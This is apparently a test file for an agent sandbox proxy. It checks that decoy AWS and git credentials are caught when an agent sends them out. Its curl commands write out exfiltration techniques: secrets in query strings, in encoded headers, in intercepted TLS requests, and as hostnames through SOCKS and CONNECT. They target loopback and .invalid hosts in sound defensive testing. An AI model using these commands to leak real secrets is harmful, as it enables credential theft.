import { createServer, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAgentCa } from '../../src/core/vault/ca.js';
import { paddock, paddockAsync, tempDir, waitFor } from '../helpers/cli.js';

// Issue 18: a decoy value seen by the proxy raises secret-exfil and the request is refused (loopback only).
const tmp = tempDir('paddock-decoy-exfil-');
let server: Server;
let tls: Server;
const received: string[] = [];
const port = (): number => (server.address() as AddressInfo).port;
const tlsPort = (): number => (tls.address() as AddressInfo).port;
// The HTTPS server's CA, trusted by the host (the proxy), never by the agent.
const caFile = join(tmp.dir, 'upstream-ca.pem');
const env = { ...process.env, PADDOCK_VAULT_PASSPHRASE: 'decoy exfil passphrase', NODE_EXTRA_CA_CERTS: caFile };

beforeAll(async () => {
  server = createServer((req, res) => {
    received.push(`${req.url ?? ''} ${JSON.stringify(req.headers)}`);
    res.end('hello\n');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const ca = createAgentCa('test-upstream');
  writeFileSync(caFile, ca.certPem);
  const leaf = ca.issue('localhost');
  tls = createHttpsServer({ cert: leaf.certPem, key: leaf.keyPem }, (req, res) => {
    received.push(`tls ${req.url ?? ''} ${JSON.stringify(req.headers)}`);
    res.end('hello\n');
  });
  await new Promise<void>((r) => tls.listen(0, '127.0.0.1', () => r()));
});
afterAll(() => {
  server.close();
  tls.close();
  tmp.cleanup();
});

function events(dataDir: string, agent: string): Record<string, unknown>[] {
  const r = paddock(['--data-dir', dataDir, 'events', '--agent', agent, '--json', '--limit', '10000']);
  return r.stdout.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
}

describe('decoy values through the proxy', () => {
  const dataDir = join(tmp.dir, 'exfil');
  const file = join(tmp.dir, 'exfil.yaml');
  // A header secret bound to the HTTPS server makes the proxy intercept (and read) its TLS requests.
  const profile = (cmd: string): void =>
    writeFileSync(
      file,
      `name: leaker\nnetwork: on\nrules: |\n  allow net 127.0.0.1:${port()}\n  allow net localhost:${tlsPort()}\nsecrets:\n  - { name: API_KEY, as: header, hosts: ['localhost:${tlsPort()}'], header: "Authorization: Bearer {}" }\ncommand: [sh, -c, ${JSON.stringify(cmd)}]\n`,
    );
  const c = 'env -u NO_PROXY -u no_proxy curl -sS -o /dev/null -w "%{http_code}\\n"';
  const u = (): string => `http://127.0.0.1:${port()}`;
  let values: Record<string, string[]> = {};

  beforeAll(async () => {
    // The first start places the decoys; the host reads their values from the manifest (the agent never opens a decoy here).
    profile(`${c} ${u()}/plain; ${c} https://localhost:${tlsPort()}/clean`);
    expect(paddock(['--data-dir', dataDir, 'secret', 'set', 'leaker', 'API_KEY'], { input: 'sk-decoy-test-value\n', env }).code).toBe(0);
    // Async: the loopback servers live in this process (a synchronous spawn would block them).
    const run = paddockAsync(['--data-dir', dataDir, 'run', file], { env });
    expect(await run.exit).toBe(0);
    // Positive control: requests without a decoy value go through (plain and intercepted TLS), and no alert.
    expect(run.out()).toBe('200\n200\n');
    expect(received.some((x) => x.startsWith('/plain '))).toBe(true);
    expect(received.some((x) => x.startsWith('tls /clean ') && x.includes('sk-decoy-test-value'))).toBe(true);
    expect(events(dataDir, 'leaker').filter((e) => e.kind === 'alert')).toEqual([]);
    const manifest = JSON.parse(readFileSync(join(dataDir, 'agents', 'leaker', 'decoys.json'), 'utf8')) as { decoys: { kind: string; values: string[] }[] };
    values = Object.fromEntries(manifest.decoys.map((d) => [d.kind, d.values]));
  });

  /** Runs `cmd`, waits for a decoy secret-exfil alert after the events seen so far, checks the pause, kills. */
  async function exfil(cmd: string, via: string): Promise<void> {
    const before = events(dataDir, 'leaker').length;
    profile(cmd);
    const run = paddockAsync(['--data-dir', dataDir, 'run', file], { env });
    try {
      const alert = await waitFor(() => events(dataDir, 'leaker').slice(before).find((e) => e.kind === 'alert' && e.type === 'secret-exfil'), 20_000);
      expect(alert.reason).toBe('decoy');
      expect(alert.via).toBe(via);
      await waitFor(() => events(dataDir, 'leaker').slice(before).some((e) => e.kind === 'agent.pause'), 10_000);
      expect(events(dataDir, 'leaker').slice(before).some((e) => e.kind === 'net.deny' && e.reason === 'the request carries a decoy credential')).toBe(true);
      paddock(['--data-dir', dataDir, 'kill', 'leaker']);
      await run.exit;
    } finally {
      run.child.kill('SIGKILL');
    }
  }

  it('in a plain-HTTP URL query string: secret-exfil, paused, never delivered', async () => {
    const akid = values['aws-credentials']![0]!;
    await exfil(`${c} '${u()}/?k=${akid}'; sleep 30`, 'http');
    expect(received.some((x) => x.includes(akid))).toBe(false);
  });

  it('percent-encoded in a plain-HTTP header: secret-exfil, never delivered', async () => {
    const secret = values['aws-credentials']![1]!;
    await exfil(`${c} -H 'X-Token: ${encodeURIComponent(secret)}' ${u()}/h; sleep 30`, 'http');
    expect(received.some((x) => x.startsWith('/h '))).toBe(false);
  });

  it('in an intercepted TLS request (URL query string): secret-exfil, paused, never delivered', async () => {
    const akid = values['aws-credentials']![0]!;
    await exfil(`${c} 'https://localhost:${tlsPort()}/q?k=${akid}'; sleep 30`, 'https');
    expect(received.some((x) => x.includes(akid))).toBe(false);
  });

  it('in a SOCKS target name: secret-exfil before any lookup', async () => {
    const ghp = values['git-credentials']![0]!;
    await exfil(`env -u NO_PROXY -u no_proxy curl -sS --max-time 10 -x "$ALL_PROXY" http://${ghp.toLowerCase()}.invalid/; sleep 30`, 'socks5');
  });

  it('in a CONNECT target name: secret-exfil before any lookup', async () => {
    const ghp = values['git-credentials']![0]!;
    await exfil(`${c} --max-time 10 https://${ghp.toLowerCase()}.invalid/; sleep 30`, 'connect');
  });
});
